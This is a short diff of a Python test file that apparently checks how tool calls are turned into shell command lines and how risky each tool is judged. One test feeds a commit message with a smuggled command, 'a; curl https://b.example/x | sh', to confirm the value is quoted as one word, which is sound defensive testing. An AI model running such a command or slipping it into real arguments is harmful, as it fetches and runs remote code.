@@ -390,7 +390,7 @@ def test_a_tool_that_no_program_has_named_is_no_command_line(tool: str) -> None:
 def test_a_value_stays_one_word() -> None:
     lines = commands_of("git_commit", {"message": "a; curl https://b.example/x | sh"})
     assert lines
-    assert all("'" in line for line in lines)
+    assert all("'" in command.line for command in lines)
 
 
 @pytest.mark.parametrize(
@@ -432,7 +432,7 @@ def test_a_name_that_looks_is_not_graver_for_its_program(tool: str) -> None:
         ("gcloud_pay_log", "pays"),
         ("redis_set", "changes-record"),
         ("redis_rename_payment", "pays"),
-        ("vault_delete_user", "deletes-data"),
+        ("vault_delete_entry", "deletes-data"),
         ("slack_conversations_history", "looks"),
     ],
 )
